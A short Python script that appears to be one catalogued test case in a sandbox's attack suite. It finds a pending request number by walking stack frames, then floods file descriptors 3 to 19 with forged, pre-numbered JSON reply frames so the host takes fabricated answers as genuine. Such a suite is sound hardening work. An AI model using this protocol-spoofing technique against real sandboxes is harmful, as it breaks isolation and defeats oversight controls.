# /// attack
# name = "right number, forged answer"
# threat = "forged answers"
# tries = "Answers the next questions before they are asked."
# others = "any"
# ///

import os, sys, struct, json


def forge(number, value):
    text = json.dumps({"dict": [["number", number], ["value", value], ["printed", ""]]})
    return struct.pack(">II", len(text), 0) + text.encode()


frame = sys._getframe()
while "request" not in frame.f_locals:
    frame = frame.f_back
number = frame.f_locals["request"]["number"]
for fd in range(3, 20):
    try:
        os.write(fd, b"".join(forge(number + k, {"handle": [99, "f", "f"]}) for k in range(50)))
    except OSError:
        pass
